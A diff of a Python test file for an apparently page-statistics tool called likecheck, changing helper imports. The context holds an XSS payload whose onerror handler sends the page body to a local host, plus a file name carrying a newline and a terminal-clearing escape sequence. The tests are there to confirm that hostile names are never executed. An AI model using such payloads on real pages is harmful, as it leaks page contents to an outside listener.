@@ -28,7 +28,7 @@ from likecheck.importers import import_exports
 from likecheck.importers.report import import_report
 from likecheck.paths import FIGURES, ROOT
 from likecheck.tools import site
-from test_rerun_safety import tree_digest
+from helpers import tree_digest
 
 #: What an attacker names a page: markup that runs, a link, a formula, table syntax, a line break.
 XSS = "<img src=x onerror=fetch('http://127.0.0.1:9/'+document.body.innerText)>"
@@ -172,7 +172,7 @@ def test_a_file_name_with_a_line_break_or_an_escape_sequence_stays_on_one_line(t
     bad = tmp_path / "fans\n\x1b[2Jcleared.csv"
     bad.write_text("page,date,country,fans\nA,2016-03-08,KH,-5\n", encoding="utf-8")
     assert "\n" not in str(DataError(bad, "problem", line=2))
-    from test_rerun_safety import run_main
+    from helpers import run_main
     status, err = run_main(capsys, monkeypatch, tmp_path, "--start", "2016-03-09", "--end", "2016-03-16",
                            "--data", str(bad))
     assert status == 2 and err.count("\n") == 1 and "\x1b" not in err and "fans\\n\\x1b[2Jcleared.csv" in err
@@ -210,7 +210,7 @@ def test_make_expands_nothing_a_user_typed(tmp_path, target, name):
 def test_a_rerun_on_hostile_names_runs_no_script_and_draws_them_as_typed(tmp_path, capsys, monkeypatch):
     """Defects 1 and 8 in a fresh attempt: the page names reach the import report, the notebook's
     Markdown, its tables, its figures' titles and labels, and the HTML pages; none runs, all read as typed."""
-    from test_rerun_safety import run_main
+    from helpers import run_main
     folder = tmp_path / "exports"
     folder.mkdir()
     page = XSS + " Win $5 or $10 Club and Bad $\\foo{$ page"
